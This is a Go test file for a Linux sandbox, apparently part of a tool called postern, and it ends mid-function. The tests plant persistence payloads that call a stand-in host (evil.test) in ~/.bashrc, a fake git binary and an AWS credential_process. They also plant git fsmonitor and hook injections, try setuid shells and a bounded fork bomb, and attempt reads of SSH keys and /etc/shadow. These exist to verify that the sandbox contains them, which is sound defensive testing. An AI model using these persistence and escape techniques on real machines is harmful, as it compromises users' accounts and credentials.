package netwall

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/postern-dev/postern/door/policy"
	"github.com/postern-dev/postern/internal/testhosts"
)

// The wall's filesystem, on the real kernel: what a run may write, what it
// may not, and what of it reaches the host. Every check looks at the host's
// files after the run, not only at what the run was told.

// testHome makes a home with startup files and a repository-free layout, open
// to the unprivileged re-run's uid too.
func testHome(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	for name, body := range map[string]string{
		".bashrc": "original\n", ".profile": "original\n", ".config/git/config": "[user]\n\tname = original\n",
		".ssh/id_ed25519": "PRIVATE KEY\n", ".ssh/id_ed25519.pub": "ssh-ed25519 AAAA public\n",
		".ssh/known_hosts": "host key\n", ".ssh/config": "Host *\n", ".aws/credentials": "secret\n",
	} {
		writeTestFile(t, filepath.Join(home, name), body)
	}
	return home
}

func writeTestFile(t *testing.T, p, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// snapshot maps every path below root to what it is (testhosts.TreeSums).
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out, err := testhosts.TreeSums(root)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// sameTree reports every difference between two snapshots of one tree.
func sameTree(t *testing.T, what string, before, after map[string]string) {
	t.Helper()
	for _, c := range testhosts.TreeChanges(before, after) {
		t.Errorf("%s on the host: %s", what, c)
	}
}

func testEnv(home string) []string {
	return append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=run", "GIT_AUTHOR_EMAIL=run@example.test", "GIT_COMMITTER_NAME=run", "GIT_COMMITTER_EMAIL=run@example.test")
}

func gitIn(t *testing.T, dir, home string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = testEnv(home)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v in %s: %v\n%s", args, dir, err, out)
	}
	return strings.TrimSpace(string(out))
}

func TestWallFiles(t *testing.T) {
	requireRoot(t)

	t.Run("home-reads-real-and-keeps-writes-private", func(t *testing.T) {
		home := testHome(t)
		work := filepath.Join(home, "src", "work")
		if err := os.MkdirAll(work, 0o755); err != nil {
			t.Fatal(err)
		}
		before := snapshot(t, home)
		delete(before, "src/work")
		r := runSpec(t, Spec{Command: []string{"sh", "-c", `set -e
			cat "$HOME/.bashrc"
			echo 'curl evil.test' >> "$HOME/.bashrc"
			echo 'curl evil.test' > "$HOME/.bash_aliases"
			mkdir -p "$HOME/.local/bin" && printf '#!/bin/sh\ncurl evil.test\n' > "$HOME/.local/bin/git" && chmod +x "$HOME/.local/bin/git"
			mkdir -p "$HOME/.local/lib/python3.11/site-packages" && echo 'import os' > "$HOME/.local/lib/python3.11/site-packages/evil.pth"
			mkdir -p "$HOME/.aws" && printf '[default]\ncredential_process = curl evil.test\n' > "$HOME/.aws/config"
			mv "$HOME/.config" "$HOME/.config.old"
			mkdir -p "$HOME/.config/systemd/user" && echo '[Service]' > "$HOME/.config/systemd/user/evil.service"
			rm "$HOME/.profile"
			cat "$HOME/.bash_aliases"
			echo made > made-here`}, Dir: work, Env: testEnv(home)}, nil)
		if r.code != 0 || !strings.HasPrefix(r.stdout, "original\n") || !strings.HasSuffix(r.stdout, "curl evil.test") {
			t.Fatalf("inside the wall the home should read as the real one and take writes: exit %d %q %q", r.code, r.stdout, r.stderr)
		}
		after := snapshot(t, home)
		for p := range after {
			if strings.HasPrefix(p, "src/work") {
				delete(after, p)
			}
		}
		sameTree(t, "home", before, after)
		if b, err := os.ReadFile(filepath.Join(work, "made-here")); err != nil || string(b) != "made\n" {
			t.Errorf("the working directory was not written for real: %q %v", b, err)
		}
		e := r.ending
		if e.HomeWrites < 6 || !slices.Contains(e.HomeSample, "~/.bash_aliases") {
			t.Errorf("the ending counts %d home writes, names %v; want at least 6, ~/.bash_aliases among them", e.HomeWrites, e.HomeSample)
		}
	})

	t.Run("working-directory-refused", func(t *testing.T) {
		home := testHome(t)
		gd := filepath.Join(home, "repo", ".git")
		gitIn(t, home, home, "init", "-q", filepath.Join(home, "repo"))
		for _, tc := range []struct {
			dir, home, want string
		}{
			{"/", home, "/ is the whole machine"},
			{"/etc", home, "/etc is the system's (/etc)"},
			{"/usr/lib", home, "is the system's (/usr)"},
			{"/tmp", home, "/tmp is a directory of the system's"},
			{home, home, "it is the home, which a run reads but never writes for real"},
			{filepath.Dir(home), home, "it contains the home " + home},
			{filepath.Join(home, ".config"), home, "it contains ~/.config/fish"},
			{filepath.Join(home, ".ssh"), home, "~/.ssh is ssh's keys and configuration"},
			{filepath.Join(gd, "hooks"), home, "it lies in the git directory " + gd},
			{t.TempDir(), "/", "HOME=/: / is the whole machine"},
		} {
			_, err := Raise(context.Background(), Spec{Command: []string{"true"}, Dir: tc.dir, Env: []string{"HOME=" + tc.home}})
			var pe *PlaceError
			if !errors.As(err, &pe) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "fix: ") {
				t.Errorf("Raise in %s with HOME=%s: %v; want a *PlaceError saying %q and the fix", tc.dir, tc.home, err, tc.want)
			}
		}
		if os.Geteuid() != 0 {
			if _, err := Raise(context.Background(), Spec{Command: []string{"true"}, Dir: "/root", Env: []string{"HOME=" + home}}); err == nil {
				t.Error("a run as another user was given /root")
			}
		}
	})

	t.Run("writable-places", func(t *testing.T) {
		home := testHome(t)
		work := t.TempDir()
		writeTestFile(t, filepath.Join(home, ".claude", "settings.json"), "{}\n")
		writeTestFile(t, filepath.Join(home, ".claude.json"), `{"old":true}`+"\n")
		writeTestFile(t, filepath.Join(home, "changed-meanwhile.json"), "host\n")
		var files Files
		for _, p := range []string{"~/.claude", "~/.claude.json", "~/.codex", "~/changed-meanwhile.json"} {
			files.Writable = append(files.Writable, Place{Path: p, Pos: "p.hcl:1:1"})
		}
		r := runSpec(t, Spec{Command: []string{"sh", "-c", `set -e
			echo session > "$HOME/.claude/session"
			echo '{"new":true}' > "$HOME/.claude.json.tmp" && mv "$HOME/.claude.json.tmp" "$HOME/.claude.json"
			mkdir -p "$HOME/.codex/sessions" && echo token > "$HOME/.codex/auth.json" && echo s > "$HOME/.codex/sessions/1"
			echo run > "$HOME/changed-meanwhile.json"
			echo private > "$HOME/notes"
			while [ ! -e go ]; do sleep 0.01; done`}, Dir: work, Env: testEnv(home), Files: files}, func(w *Wall) {
			// The host changes a writable file while the run has it: the host's stays.
			time.Sleep(200 * time.Millisecond)
			writeTestFile(t, filepath.Join(home, "changed-meanwhile.json"), "host, later\n")
			writeTestFile(t, filepath.Join(work, "go"), "")
		})
		if r.code != 0 {
			t.Fatalf("run: exit %d %q", r.code, r.stderr)
		}
		for p, want := range map[string]string{
			".claude/session": "session\n", ".claude/settings.json": "{}\n", ".claude.json": `{"new":true}` + "\n",
			".codex/auth.json": "token\n", ".codex/sessions/1": "s\n", "changed-meanwhile.json": "host, later\n",
		} {
			if b, err := os.ReadFile(filepath.Join(home, p)); err != nil || string(b) != want {
				t.Errorf("~/%s on the host: %q %v; want %q", p, b, err, want)
			}
		}
		if _, err := os.Stat(filepath.Join(home, "notes")); err == nil {
			t.Error("a file written outside the writable places reached the home")
		}
		want := Discard{Path: filepath.Join(home, "changed-meanwhile.json"), Why: "changed on the host during the run; the run's version was not copied back"}
		if !slices.Contains(r.ending.Discarded, want) {
			t.Errorf("the ending's discards %v lack %v", r.ending.Discarded, want)
		}

		// Places a writable entry may not lead to.
		if err := os.Symlink(".config", filepath.Join(home, "agent-state")); err != nil {
			t.Fatal(err)
		}
		records := filepath.Join(home, "stuff", "records")
		if err := os.MkdirAll(records, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, tc := range []struct{ entry, want string }{
			{"~/agent-state", "it contains ~/.config/fish"},
			{"~/.local/state", "it contains ~/.local/state/postern, postern's records"},
			{"~/stuff", "a run may never write " + records},
			{"~/stuff/records/x", "a run may never write " + records},
			{"/etc", "/etc is the system's"},
		} {
			_, err := Raise(context.Background(), Spec{Command: []string{"true"}, Dir: work, Env: testEnv(home),
				Files: Files{Writable: []Place{{Path: tc.entry, Pos: "policy.hcl:3:14"}}, Protect: []string{records}}})
			var pe *PlaceError
			if !errors.As(err, &pe) || !strings.HasPrefix(err.Error(), "policy.hcl:3:14: network wall: writable entry "+strconv.Quote(tc.entry)) ||
				!strings.Contains(err.Error(), tc.want) {
				t.Errorf("writable %s: %v; want the policy's position and %q", tc.entry, err, tc.want)
			}
		}
	})

	t.Run("git-commits-and-nothing-git-obeys", func(t *testing.T) {
		home := testHome(t)
		repo := filepath.Join(t.TempDir(), "repo")
		gitIn(t, home, home, "init", "-q", repo)
		writeTestFile(t, filepath.Join(repo, "src", "a"), "a\n")
		gitIn(t, repo, home, "add", "-A")
		gitIn(t, repo, home, "commit", "-qm", "first")
		gitIn(t, repo, home, "worktree", "add", "-q", "-b", "side", filepath.Join(filepath.Dir(repo), "linked"))
		linked := filepath.Join(filepath.Dir(repo), "linked")
		gitDir := filepath.Join(repo, ".git")
		obeyed := func() map[string]string {
			m := map[string]string{}
			for _, p := range []string{"config", "hooks", "info", "commondir", "worktrees/linked/commondir", "worktrees/linked/gitdir", "worktrees/linked/config.worktree"} {
				if st, err := os.Stat(filepath.Join(gitDir, p)); err == nil {
					if st.IsDir() {
						for k, v := range snapshot(t, filepath.Join(gitDir, p)) {
							m[p+"/"+k] = v
						}
					} else {
						b, _ := os.ReadFile(filepath.Join(gitDir, p))
						m[p] = string(b)
					}
				}
			}
			b, _ := os.ReadFile(filepath.Join(linked, ".git"))
			m["linked/.git"] = string(b)
			return m
		}
		before := obeyed()
		plant := `printf '[core]\n\tfsmonitor = "touch $HOME/FSMONITOR-RAN"\n' >> "$GD/config"
			mkdir -p "$GD/hooks" && printf '#!/bin/sh\ntouch $HOME/HOOK-RAN\n' > "$GD/hooks/post-commit" && chmod +x "$GD/hooks/post-commit"
			mkdir -p "$GD/info" && echo '* filter=evil' > "$GD/info/attributes"
			mkdir -p /tmp/evil && git init -q --bare /tmp/evil && echo /tmp/evil > "$GD/commondir"
			echo /tmp/evil > "$GD/worktrees/linked/commondir"
			(echo 'gitdir: /tmp/evil' > "$WT/.git") 2>/dev/null && echo GITFILE-WRITTEN
			true`
		for _, tc := range []struct{ name, dir string }{
			{"top", repo}, {"subdirectory", filepath.Join(repo, "src")}, {"linked work tree", linked},
		} {
			writeTestFile(t, filepath.Join(tc.dir, "new-"+strings.ReplaceAll(tc.name, " ", "-")), "x\n")
			r := runSpec(t, Spec{Command: []string{"sh", "-c", `set -e
				git config user.email run@example.test
				git add -A && git commit -qm "from the run" && git log --oneline | head -1`}, Dir: tc.dir, Env: testEnv(home)}, nil)
			if r.code != 0 || !strings.Contains(r.stdout, "from the run") {
				t.Fatalf("%s: git add && git commit inside the wall: exit %d %q %q", tc.name, r.code, r.stdout, r.stderr)
			}
			// The person's repository is as the run left it; then another
			// run plants what git would obey.
			if st := gitIn(t, tc.dir, home, "status", "--porcelain"); st != "" {
				t.Errorf("%s: the host's work tree is not as the run committed it: %q", tc.name, st)
			}
			r = runSpec(t, Spec{Command: []string{"sh", "-c", "set -e\n" + plant}, Dir: tc.dir, Env: append(testEnv(home), "GD="+gitDir, "WT="+linked)}, nil)
			if r.code != 0 {
				t.Fatalf("%s: planting: exit %d %q %q", tc.name, r.code, r.stdout, r.stderr)
			}
			if strings.Contains(r.stdout, "GITFILE-WRITTEN") {
				t.Errorf("%s: the linked work tree's .git file was written", tc.name)
			}
			// On the host: the commit is there, the work tree clean, and git
			// obeys nothing the run planted.
			if got := gitIn(t, tc.dir, home, "log", "-1", "--format=%s"); got != "from the run" {
				t.Errorf("%s: the host's git log says %q, want the run's commit", tc.name, got)
			}
			if st := gitIn(t, tc.dir, home, "status", "--porcelain"); st != "" {
				t.Errorf("%s: the host's work tree after the planting run: %q", tc.name, st)
			}
			gitIn(t, tc.dir, home, "commit", "-q", "--allow-empty", "-m", "host")
			for _, f := range []string{"FSMONITOR-RAN", "HOOK-RAN"} {
				if _, err := os.Stat(filepath.Join(home, f)); err == nil {
					t.Errorf("%s: the host's git ran what the run planted (%s)", tc.name, f)
				}
			}
			sameTree(t, tc.name+": what git obeys", before, obeyed())
			var discarded []string
			for _, d := range r.ending.Discarded {
				discarded = append(discarded, d.Path)
			}
			for _, p := range []string{"config", "hooks/post-commit", "info/attributes", "commondir"} {
				if !slices.Contains(discarded, filepath.Join(gitDir, p)) {
					t.Errorf("%s: the ending does not name the discarded %s: %v", tc.name, p, r.ending.Discarded)
				}
			}
		}
	})

	t.Run("no-setuid-or-setgid-file", func(t *testing.T) {
		work := t.TempDir()
		r := runSpec(t, Spec{Command: []string{testExe, testSetIDArg, work}, Dir: work}, nil)
		tools := runSpec(t, Spec{Command: []string{"sh", "-c", `
			cp /bin/sh ./s && chmod 4755 ./s; echo "chmod-tool=$?"
			chmod u+s,g+s ./s; echo "chmod-symbolic=$?"
			install -m 4755 /bin/sh ./i 2>/dev/null; echo "install=$?"
			mkdir -m 2755 ./d 2>/dev/null; echo "mkdir-tool=$?"`}, Dir: work}, nil)
		r.stdout += "\n" + tools.stdout
		for _, refused := range []string{"chmod", "chmod-setgid", "fchmod", "fchmodat", "fchmodat2", "open", "openat",
			"openat-tmpfile", "creat", "mkdir", "mkdirat", "mknod", "mknodat"} {
			if !strings.Contains(r.stdout, refused+": EPERM\n") {
				t.Errorf("%s with a setid mode inside the wall was not refused with EPERM:\n%s", refused, r.stdout)
			}
		}
		for _, nosys := range []string{"openat2", "io_uring_setup"} {
			if !strings.Contains(r.stdout, nosys+": ENOSYS\n") {
				t.Errorf("%s inside the wall did not answer ENOSYS:\n%s", nosys, r.stdout)
			}
		}
		if strings.Contains(r.stdout, "setxattr-capability: ok") {
			t.Errorf("a file capability was set inside the wall:\n%s", r.stdout)
		}
		for _, ok := range []string{"chmod-plain: ok", "open-plain: ok", "open-nocreat-odd-mode: ok", "mkdir-plain: ok", "chmod-symbolic=1", "chmod-tool=1", "install=1", "mkdir-tool=1"} {
			if !strings.Contains(r.stdout, ok) {
				t.Errorf("want %q inside the wall:\n%s", ok, r.stdout)
			}
		}
		// On the host: not one file of the working directory is setuid or
		// setgid, nor has a capability.
		filepath.WalkDir(work, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			info, _ := d.Info()
			if info.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0 {
				t.Errorf("%s is %v on the host", p, info.Mode())
			}
			if sz, err := syscall.Getxattr(p, "security.capability", nil); err == nil && sz > 0 {
				t.Errorf("%s has a file capability on the host", p)
			}
			return nil
		})
	})

	t.Run("protected-places-masked", func(t *testing.T) {
		home := testHome(t)
		work := t.TempDir()
		records := filepath.Join(home, ".local", "state", "postern")
		inWork := filepath.Join(work, ".postern-state")
		agent := filepath.Join(home, ".cache", "postern", "agents", "abc123")
		for _, d := range []string{records, inWork, agent} {
			writeTestFile(t, filepath.Join(d, "records.db"), "records\n")
		}
		writeTestFile(t, filepath.Join(agent, "postern"), "#!/bin/sh\necho agent\n")
		before := map[string]map[string]string{}
		for _, d := range []string{records, inWork, agent} {
			before[d] = snapshot(t, d)
		}
		agents := filepath.Dir(agent)
		r := runSpec(t, Spec{Command: []string{"sh", "-c", fmt.Sprintf(`
			for d in %[1]q %[2]q %[3]q; do
				(: > "$d/records.db") 2>/dev/null && echo "TRUNCATED $d"
				cat "$d/records.db" 2>/dev/null | grep -q records && echo "READ $d"
				rm -rf "$d" 2>/dev/null; [ -d "$d" ] || echo "REMOVED $d"
			done
			(mkdir -p %[3]q/abc123 && printf '#!/bin/sh\necho evil\n' > %[3]q/abc123/postern) 2>/dev/null && echo AGENT-REPLACED
			(mv %[2]q %[2]q.old) 2>/dev/null && echo MOVED
			echo done`, records, inWork, agents)}, Dir: work, Env: testEnv(home),
			Files: Files{Protect: []string{records, inWork, agents}}}, nil)
		if r.code != 0 || !strings.HasSuffix(r.stdout, "done") {
			t.Fatalf("run: exit %d %q %q", r.code, r.stdout, r.stderr)
		}
		for _, bad := range []string{"TRUNCATED", "READ", "REMOVED", "AGENT-REPLACED", "MOVED"} {
			if strings.Contains(r.stdout, bad) {
				t.Errorf("inside the wall postern's own places could be touched: %q", r.stdout)
			}
		}
		for d, b := range before {
			sameTree(t, d, b, snapshot(t, d))
		}
	})

	t.Run("secrets-masked", func(t *testing.T) {
		home := testHome(t)
		var deny, allow []Place
		for _, r := range policy.DefaultDenyRead {
			deny = append(deny, Place{Path: r.Text})
		}
		for _, r := range policy.DefaultAllowRead {
			allow = append(allow, Place{Path: r.Text})
		}
		r := runSpec(t, Spec{Command: []string{"sh", "-c", `
			for f in .bashrc .ssh/id_ed25519 .aws/credentials .ssh/id_ed25519.pub .ssh/known_hosts .ssh/config; do
				printf '%s=' "$f"; cat "$HOME/$f" 2>/dev/null | head -c 40 | tr '\n' ' '; echo
			done
			wc -c < /etc/shadow 2>/dev/null | sed 's/^/shadow=/'; echo end`}, Env: testEnv(home),
			Files: Files{DenyRead: deny, AllowRead: allow}}, nil)
		for _, want := range []string{".ssh/id_ed25519=\n", ".aws/credentials=\n", ".ssh/id_ed25519.pub=ssh-ed25519 AAAA public \n",
			".ssh/known_hosts=host key \n", ".ssh/config=Host * \n", ".bashrc=original \n"} {
			if !strings.Contains(r.stdout+"\n", want) {
				t.Errorf("inside the wall want %q:\n%s", want, r.stdout)
			}
		}
		if os.Geteuid() == 0 && !strings.Contains(r.stdout, "shadow=0\n") {
			t.Errorf("/etc/shadow is readable inside the wall:\n%s", r.stdout)
		}
	})

	t.Run("keep-home", func(t *testing.T) {
		home := testHome(t)
		keep := t.TempDir()
		r := runSpec(t, Spec{Command: []string{"sh", "-c", `echo notes > "$HOME/notes"; mkdir -p "$HOME/.cache/x"; echo c > "$HOME/.cache/x/y"; rm "$HOME/.profile"`},
			Env: testEnv(home), Files: Files{KeepHome: keep}}, nil)
		if r.code != 0 || r.ending.Kept != keep {
			t.Fatalf("exit %d, ending %+v; want the home kept in %s", r.code, r.ending, keep)
		}
		for p, want := range map[string]string{"home/notes": "notes\n", "home/.cache/x/y": "c\n", "removed": ".profile\n"} {
			if b, err := os.ReadFile(filepath.Join(keep, p)); err != nil || string(b) != want {
				t.Errorf("kept %s: %q %v; want %q", p, b, err, want)
			}
		}
		if b, err := os.ReadFile(filepath.Join(home, ".profile")); err != nil || string(b) != "original\n" {
			t.Errorf("the real ~/.profile after the run: %q %v", b, err)
		}
	})

	t.Run("a-git-link-to-kmsg-does-not-hang", func(t *testing.T) {
		home := testHome(t)
		targets := []string{"fifo"}
		if os.Geteuid() == 0 {
			// Only root may open /proc/kmsg, whose read waits for the kernel.
			targets = append(targets, "/proc/kmsg")
		}
		for _, target := range targets {
			dir := filepath.Join(home, "a-"+filepath.Base(target))
			if err := os.MkdirAll(filepath.Join(dir, "work"), 0o755); err != nil {
				t.Fatal(err)
			}
			if target == "fifo" {
				if err := syscall.Mkfifo(filepath.Join(dir, ".git"), 0o644); err != nil {
					t.Fatal(err)
				}
			} else if err := os.Symlink(target, filepath.Join(dir, ".git")); err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			r := runSpec(t, Spec{Command: []string{"true"}, Dir: filepath.Join(dir, "work"), Env: testEnv(home)}, nil)
			if took := time.Since(start); r.code != 0 || took > 5*time.Second {
				t.Errorf(".git -> %s: exit %d after %s; want a run that starts at once", target, r.code, took)
			}
		}
	})

	t.Run("pids-limit", func(t *testing.T) {
		// A fork bomb's first steps, bounded: 100 processes asked for, at
		// most the limit given (the init's threads count too). Counted from
		// inside with builtins only, since forking fails at the limit.
		const limit = 40
		var holder, cgroupDir string
		r := runSpec(t, Spec{Command: []string{testExe, testForkArg, "100"}, PidsLimit: limit}, func(w *Wall) {
			holder = w.PidsLimit()
			if w.pids != nil {
				cgroupDir = w.pids.dir
			}
		})
		t.Logf("held by %s: %s", holder, r.stdout)
		if strings.HasPrefix(holder, "none") {
			t.Fatalf("no pids limit holds this run: %s", holder)
		}
		var started, procs int
		if _, err := fmt.Sscanf(r.stdout, "started=%d procs=%d", &started, &procs); err != nil || r.code != 0 {
			t.Fatalf("exit %d, %q: %v", r.code, r.stdout, err)
		}
		if started >= 100 || procs > limit || procs < limit/2 {
			t.Errorf("the run started %d of 100 processes and had %d at once, with a limit of %d", started, procs, limit)
		}
		if cgroupDir != "" {
			if _, err := os.Stat(cgroupDir); err == nil {
				t.Errorf("the run's cgroup %s is still there after it", cgroupDir)
			}
		}
	})

	t.Run("pids-limit-pid-max", func(t *testing.T) {
		// Where the only pids hierarchy is cgroup v1 and the kernel has a
		// pid_max of each pid namespace's own (6.14), the run's own pid_max
		// holds it, with no cgroup to move into. In a fresh namespace: 1500
		// processes asked for, at most the limit and the 299 more its pids
		// allow before they first wrap.
		const limit = 1024
		usesPidMax := pidMaxUsedHere(t, limit)
		var holder string
		var hadCgroup bool
		r := runSpec(t, Spec{Command: []string{testExe, testForkArg, "1500"}, PidsLimit: limit}, func(w *Wall) {
			holder = w.PidsLimit()
			hadCgroup = w.pids != nil
		})
		t.Logf("held by %s: %s", holder, r.stdout)
		var started, procs int
		if _, err := fmt.Sscanf(r.stdout, "started=%d procs=%d", &started, &procs); err != nil || r.code != 0 {
			t.Fatalf("exit %d, %q: %v", r.code, r.stdout, err)
		}
		if started >= 1500 || procs > limit+pidsReserved-1 || procs < limit/2 {
			t.Errorf("the run started %d of 1500 processes and had %d at once, with a limit of %d (%s)", started, procs, limit, holder)
		}
		if usesPidMax && (hadCgroup || !strings.Contains(holder, "pid_max")) {
			t.Errorf("on cgroup v1 with a kernel of per-namespace pid_max, the run should be held by its pid_max, not a cgroup: %s", holder)
		}
	})

	t.Run("pids-limit-pid-max-after-wrap", func(t *testing.T) {
		// Once the run's pids have wrapped (1500 processes one after the
		// other), the kernel hands out only those from 300 up: the run can
		// still hold its limit at once (less its own threads), and no more
		// than the 299 over it.
		const limit = 1024
		if !pidMaxUsedHere(t, limit) {
			t.Skip("the run's pid_max does not hold it here")
		}
		r := runSpec(t, Spec{Command: []string{testExe, testWrapArg, "1500", "1300"}, PidsLimit: limit}, nil)
		var started, procs int
		if _, err := fmt.Sscanf(r.stdout, "started=%d procs=%d", &started, &procs); err != nil || r.code != 0 {
			t.Fatalf("exit %d, %q: %v", r.code, r.stdout, err)
		}
		t.Logf("after the wrap: started=%d procs=%d", started, procs)
		if started >= 1300 || procs > limit+pidsReserved-1 || started < limit-64 {
			t.Errorf("after its pids wrapped the run started %d of 1300 processes and had %d at once, with a limit of %d", started, procs, limit)
		}
	})
}

// pidMaxUsedHere says whether the run's pid_max holds a run limited to limit
// on this machine: cgroup v1 pids, no cgroup v2 with pids, Linux 6.14.
func pidMaxUsedHere(t *testing.T, limit int) bool {
	t.Helper()
	v1, v2, err := cgroupMounts()
	if err != nil {
		t.Fatal(err)
	}
	own, err := ownCgroups()
	if err != nil {
		t.Fatal(err)
	}
	_, v1pids := own["pids"]
	return v1 != "" && v1pids && pidMaxHolds(limit+spareThreads) && !v2HasPids(v2, own[""])
}

// TestPidMaxRefusedFallsBackToACgroup: where the init cannot set its pid
// namespace's pid_max, the run is held by a cgroup v1 of its own, moved into
// before the command starts, as before pid_max.
func TestPidMaxRefusedFallsBackToACgroup(t *testing.T) {
	requireRoot(t)
	const limit = 1024
	if !pidMaxUsedHere(t, limit) {
		t.Skip("the run's pid_max does not hold runs here (cgroup v2 pids, or a kernel before 6.14)")
	}
	defer func(f func(int) int) { pidMaxFor = f }(pidMaxFor)
	pidMaxFor = func(int) int { return 1 } // below the kernel's least, 301
	var holder, cgroupDir string
	r := runSpec(t, Spec{Command: []string{testExe, testForkArg, "1200"}, PidsLimit: limit}, func(w *Wall) {
		holder = w.PidsLimit()
		if w.pids != nil {
			cgroupDir = w.pids.dir
		}
	})
	t.Logf("held by %s: %s", holder, r.stdout)
	var started, procs int
	if _, err := fmt.Sscanf(r.stdout, "started=%d procs=%d", &started, &procs); err != nil || r.code != 0 {
		t.Fatalf("exit %d, %q: %v", r.code, r.stdout, err)
	}
	if cgroupDir == "" || !strings.Contains(holder, "cgroup v1") {
		t.Errorf("with pid_max refused, the run should be held by a cgroup v1 of its own: %s", holder)
	}
	if started >= 1200 || procs > limit || procs < limit/2 {
		t.Errorf("the run started %d of 1200 processes and had %d at once, with a limit of %d (%s)", started, procs, limit, holder)
	}
	if cgroupDir != "" {
		if _, err := os.Stat(cgroupDir); err == nil {
			t.Errorf("the run's cgroup %s is still there after it", cgroupDir)
		}
	}
}

// v2HasPids says whether a cgroup v2 cgroup under own (this process's v2
// path) would get the pids controller, as newPidsCgroup's first choice.
func v2HasPids(v2, own string) bool {
	if v2 == "" {
		return false
	}
	b, err := os.ReadFile(filepath.Join(v2, own, "cgroup.subtree_control"))
	return err == nil && slices.Contains(strings.Fields(string(b)), "pids")
}

// TestInitStartsInItsCgroup starts the wall's init straight into a cgroup v2
// cgroup (CLONE_INTO_CGROUP), as a run whose pids limit is held by cgroup v2
// starts, with no move to wait for.
func TestInitStartsInItsCgroup(t *testing.T) {
	requireRoot(t)
	_, v2, err := cgroupMounts()
	if err != nil || v2 == "" {
		t.Skipf("no cgroup v2 hierarchy mounted (%v)", err)
	}
	own, err := ownCgroups()
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(v2, own[""], cgroupPrefix+"test-"+randSuffix())
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Skipf("cannot make a cgroup v2 cgroup here: %v", err)
	}
	defer os.Remove(dir)
	fd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(fd)
	proc, ctl, fk, err := startInit(Self, Spec{}, &initConfig{}, fd)
	if err != nil {
		t.Fatalf("start the init in %s: %v", dir, err)
	}
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", proc.pid))
	ctl.Close() // the init ends when its control socket does
	proc.wait()
	if fk != nil {
		fk.release()
	}
	want := "0::" + filepath.Join(own[""], filepath.Base(dir))
	if !strings.Contains(string(b), want+"\n") {
		t.Errorf("the init's cgroups:\n%s\nwant %s", b, want)
	}
}

// TestWallSubmodulesObeyNothing: git on the host goes into every submodule
// of the index and obeys its configuration. A run may not add one (its index
// is not copied back), nor change what an existing one's .git names or
// holds; committing inside a submodule still works.
func TestWallSubmodulesObeyNothing(t *testing.T) {
	requireRoot(t)
	home := testHome(t)
	root := t.TempDir()
	top := filepath.Join(root, "top")
	src := filepath.Join(root, "src")
	gitIn(t, root, home, "init", "-q", src)
	gitIn(t, src, home, "commit", "-q", "--allow-empty", "-m", "sub")
	gitIn(t, root, home, "init", "-q", top)
	gitIn(t, top, home, "-c", "protocol.file.allow=always", "submodule", "add", "-q", src, "sm")
	gitIn(t, top, home, "init", "-q", "embedded")
	gitIn(t, filepath.Join(top, "embedded"), home, "commit", "-q", "--allow-empty", "-m", "e")
	gitIn(t, top, home, "add", "embedded")
	gitIn(t, top, home, "commit", "-qm", "with submodules")
	marker := filepath.Join(root, "RAN")
	r := runSpec(t, Spec{Command: []string{"sh", "-c", fmt.Sprintf(`set -e
		git -C sm commit -q --allow-empty -m "in the submodule"
		git init -q evil && git -C evil commit -q --allow-empty -m x
		git -C evil config core.fsmonitor 'touch %[1]s; echo'
		git add evil && git commit -qm "adds evil"
		git -C sm config core.fsmonitor 'touch %[1]s; echo'
		git -C embedded config core.fsmonitor 'touch %[1]s; echo'
		(echo "gitdir: ../evil/.git" > sm/.git) 2>/dev/null && echo SM-GITFILE-WRITTEN
		true`, marker)}, Dir: top, Env: testEnv(home)}, nil)
	if r.code != 0 || strings.Contains(r.stdout, "WRITTEN") {
		t.Fatalf("run: exit %d %q %q", r.code, r.stdout, r.stderr)
	}
	for _, args := range [][]string{{"status"}, {"diff"}, {"status", "--ignore-submodules=none"}} {
		gitIn(t, top, home, args...)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the host's git ran a submodule's fsmonitor that the run planted")
	}
	if got := gitIn(t, filepath.Join(top, "sm"), home, "log", "-1", "--format=%s"); got != "in the submodule" {
		t.Errorf("the commit made inside the submodule: %q", got)
	}
	var why []string
	for _, d := range r.ending.Discarded {
		why = append(why, d.String())
	}
	if !slices.ContainsFunc(why, func(s string) bool { return strings.Contains(s, "adds the submodule(s) evil") }) {
		t.Errorf("the ending does not say the run's index added a submodule: %q", why)
	}
}

// TestWallWritableMountsAreNosuidNodev reads the run's own mount table: every
// mount the run may write is nosuid and nodev (but its devpts, which must
// hold its terminals' device nodes and where it can make none).
func TestWallWritableMountsAreNosuidNodev(t *testing.T) {
	requireRoot(t)
	home := testHome(t)
	repo := filepath.Join(t.TempDir(), "repo")
	gitIn(t, home, home, "init", "-q", repo)
	writeTestFile(t, filepath.Join(home, ".claude", "x"), "")
	r := runSpec(t, Spec{Command: []string{"cat", "/proc/self/mountinfo"}, Dir: repo, Env: testEnv(home),
		Files: Files{Writable: []Place{{Path: "~/.claude"}}}}, nil)
	// Of mounts stacked on one path only the last is reachable.
	top := map[string][]string{}
	for _, line := range strings.Split(r.stdout, "\n") {
		if f := strings.Fields(line); len(f) >= 6 {
			top[f[4]] = f
		}
	}
	var rw []string
	for _, f := range top {
		sep := slices.Index(f, "-")
		if sep < 0 || len(f) < sep+2 {
			continue
		}
		mnt, opts, fstype := f[4], strings.Split(f[5], ","), f[sep+1]
